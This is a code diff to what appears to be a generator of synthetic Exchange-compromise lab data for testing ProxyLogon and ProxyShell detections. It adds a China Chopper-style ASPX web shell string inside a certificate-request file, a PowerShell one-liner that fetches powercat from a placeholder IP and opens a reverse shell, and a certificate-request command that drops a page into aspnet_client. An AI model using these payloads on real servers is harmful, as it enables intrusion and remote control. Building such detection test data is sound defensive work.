@@ -431,6 +431,61 @@ def pst_shell(rnd: random.Random) -> bytes:
     return header + body + tail
 
 
+def der_shell(rnd: random.Random) -> bytes:
+    """A certificate request (DER, ``30 82``) holding the page text (WS-2c), broken as above."""
+    body = (
+        b"0\x0b\x06\x03U\x04\x03\x0c\x04CN=x"
+        + b'<%@ Page Language="Jscript"%><%@ Page Language="Jscript"%><%eval(Request.Item["klk123456"],"unsafe");}}%>'
+        + bytes(rnd.getrandbits(8) for _ in range(900))
+    )
+    return b"\x30\x82" + len(body).to_bytes(2, "big") + body
+
+
+APPHOST_CONFIG = "Windows/System32/inetsrv/config/applicationHost.config"
+
+
+def application_host_config(server: ServerInfo, extra: str = "") -> bytes:
+    """A trimmed IIS applicationHost.config: the two Exchange sites and their main applications."""
+    # (virtual directory, application pool, folder under FrontEnd\HttpProxy)
+    fe = (
+        ("owa", "MSExchangeOWAAppPool", "owa"),
+        ("ecp", "MSExchangeECPAppPool", "ecp"),
+        ("EWS", "MSExchangeServicesAppPool", "EWS"),
+        ("Microsoft-Server-ActiveSync", "MSExchangeSyncAppPool", "sync"),
+        ("Autodiscover", "MSExchangeAutodiscoverAppPool", "autodiscover"),
+        ("OAB", "MSExchangeOABAppPool", "OAB"),
+        ("mapi", "MSExchangeMapiFrontEndAppPool", "mapi"),
+        ("Rpc", "MSExchangeRpcProxyFrontEndAppPool", "rpc"),
+        ("PowerShell", "MSExchangePowerShellFrontEndAppPool", "PowerShell"),
+    )
+    apps = "\r\n".join(
+        f'                <application path="/{a}" applicationPool="{pool}">\r\n'
+        f'                    <virtualDirectory path="/" physicalPath="{WIN_INSTALL}FrontEnd\\HttpProxy\\{folder}" />\r\n'
+        "                </application>"
+        for a, pool, folder in fe
+    )
+    root_extra = f"\r\n                    {extra}" if extra else ""
+    text = (
+        '<?xml version="1.0" encoding="UTF-8"?>\r\n<configuration>\r\n    <system.applicationHost>\r\n        <sites>\r\n'
+        '            <site name="Default Web Site" id="1">\r\n'
+        '                <application path="/" applicationPool="DefaultAppPool">\r\n'
+        f'                    <virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" />{root_extra}\r\n'
+        "                </application>\r\n"
+        f"{apps}\r\n"
+        '                <bindings>\r\n                    <binding protocol="http" bindingInformation="*:80:" />\r\n'
+        '                    <binding protocol="https" bindingInformation="*:443:" />\r\n                </bindings>\r\n'
+        "            </site>\r\n"
+        '            <site name="Exchange Back End" id="2">\r\n'
+        '                <application path="/" applicationPool="MSExchangeServicesAppPool">\r\n'
+        f'                    <virtualDirectory path="/" physicalPath="{WIN_INSTALL}ClientAccess" />\r\n'
+        "                </application>\r\n"
+        '                <bindings>\r\n                    <binding protocol="https" bindingInformation="*:444:" />\r\n'
+        "                </bindings>\r\n            </site>\r\n        </sites>\r\n"
+        "    </system.applicationHost>\r\n</configuration>\r\n"
+    )
+    return text.encode("utf-8")
+
+
 def minidump(rnd: random.Random) -> bytes:
     """A stand-in for an LSASS minidump: the ``MDMP`` signature and random bytes, no real memory."""
     return b"MDMP\x93\xa7\x00\x00" + bytes(rnd.getrandbits(8) for _ in range(16_000))
@@ -946,6 +1001,13 @@ def proxylogon(plan: Plan, t0: datetime) -> None:
             ["postexploit.lsass_procdump_cmd", "postexploit.worker_child_process"],
         ),
         (
+            28.0,
+            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "powershell.exe -nop -c \"IEX (New-Object System.Net.Webclient).DownloadString('http://203.0.113.9/powercat.ps1'); "
+            'powercat -c 203.0.113.9 -p 443 -e cmd"',
+            ["postexploit.hafnium_tooling", "postexploit.worker_child_process"],
+        ),
+        (
             22.0,
             CMD,
             f"cmd.exe /c cd /d C:\\inetpub\\wwwroot\\aspnet_client&attrib +h +s +r system_web\\{chopper_name}&echo [S]&cd&echo [E]",
@@ -1251,6 +1313,68 @@ def proxyshell(plan: Plan, t0: datetime) -> None:
             wave,
             "attack",
         )
+
+    # The certificate-request variant (detections.md PS-3, WS-2c): a DER request file saved as a page.
+    tq = tc + timedelta(minutes=14)
+    cert_name = "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(10)) + ".aspx"
+    cert_rel = f"{ASPNET_CLIENT}/{cert_name}"
+    request_file = f"\\\\localhost\\C$\\inetpub\\wwwroot\\aspnet_client\\{cert_name}"
+    plan.events.append(
+        EventPlant(
+            EVT_MANAGEMENT,
+            mgmt_event(
+                plan,
+                tq,
+                "New-ExchangeCertificate",
+                f'-GenerateRequest "True" -BinaryEncoded "True" -SubjectName "CN=exwatch-inert" -RequestFile "{request_file}"',
+                "Administrator",
+                admin_sid,
+            ),
+            [item("attack", wave, "CVE-2021-31207", "proxyshell.cert_request_shell", tq, match=cert_name)],
+        )
+    )
+    tqw = tq + timedelta(seconds=2)
+    plan.events.append(
+        EventPlant(
+            EVT_SYSMON,
+            sysmon_file(plan, tqw, W3WP, win_path(cert_rel)),
+            [item("attack", wave, "CVE-2021-31207", "webshell.file_drop_event", tqw, match=cert_name)],
+        )
+    )
+    plan.files.append(
+        FilePlant(
+            cert_rel,
+            der_shell(rnd),
+            tqw,
+            [
+                item("attack", wave, "CVE-2021-31207", "proxyshell.pst_shell", tqw, match="Page Language="),
+                item("attack", wave, "CVE-2021-31207", "webshell.chopper", tqw, match="<%eval(Request.Item["),
+                item("attack", wave, "CVE-2021-31207", "webshell.known_path", tqw),
+            ],
+        )
+    )
+
+    # A virtual directory on a ProgramData device-name folder (detections.md PS-3, Huntress).
+    tv = tq + timedelta(minutes=6)
+    vdir = '<virtualDirectory path="/COM" physicalPath="C:\\ProgramData\\COM" />'
+    plan.files = [f for f in plan.files if f.path != APPHOST_CONFIG]
+    plan.files.append(
+        FilePlant(
+            APPHOST_CONFIG,
+            application_host_config(plan.server, vdir),
+            tv,
+            [
+                item(
+                    "attack",
+                    wave,
+                    "CVE-2021-31207",
+                    "proxyshell.iis_vdir_config",
+                    tv,
+                    match='physicalPath="C:\\ProgramData\\COM"',
+                )
+            ],
+        )
+    )
 
 
 def proxynotshell(plan: Plan, t0: datetime) -> None:
@@ -1936,6 +2060,7 @@ def standard_web_files(plan: Plan) -> None:
         "signout.aspx",
     ):
         plan.files.append(FilePlant(f"{OWA_AUTH}/{name}", page, t, []))
+    plan.files.append(FilePlant(APPHOST_CONFIG, application_host_config(s), t, []))
     plan.files.append(
         FilePlant(
             f"{OWA_AUTH}/Current/themes/resources/logon.css", b"/* exwatch lab placeholder */\r\n", t, []
